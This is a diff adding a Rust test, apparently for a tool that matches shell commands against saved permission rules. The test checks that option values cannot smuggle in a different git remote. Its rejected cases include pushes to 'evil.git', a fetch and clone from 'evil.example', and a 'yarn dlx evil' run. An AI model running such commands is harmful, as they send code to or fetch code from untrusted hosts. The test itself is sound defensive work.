@@ -139,6 +139,29 @@ fn a_saved_rule_reaches_nobody_else_by_an_option() {
 }
 
 #[test]
+fn the_value_of_an_option_stands_for_no_remote() {
+    check(
+        "git push origin main",
+        &["git push --set-upstream origin dev", "git push -u origin dev"],
+        &[
+            "git push --push-option origin ./evil.git main",
+            "git push --push-o origin evil main",
+            "git push --recurse-submodules origin evil main",
+        ],
+    );
+    check(
+        "git fetch origin",
+        &["git fetch -p origin", "git fetch --depth 1 origin dev"],
+        &["git fetch --filter origin https://evil.example/x", "git fetch --jobs origin evil"],
+    );
+    check(
+        "git clone https://a.example/x",
+        &["git clone --depth 1 https://a.example/y z"],
+        &["git clone --filter https://a.example/x https://evil.example/y"],
+    );
+}
+
+#[test]
 fn a_saved_rule_installs_and_publishes_nothing_else() {
     check("npm audit", &[], &["npm audit fix", "npm audit fix --force"]);
     check("yarn workspaces list", &[], &["yarn workspaces foreach -A dlx evil"]);
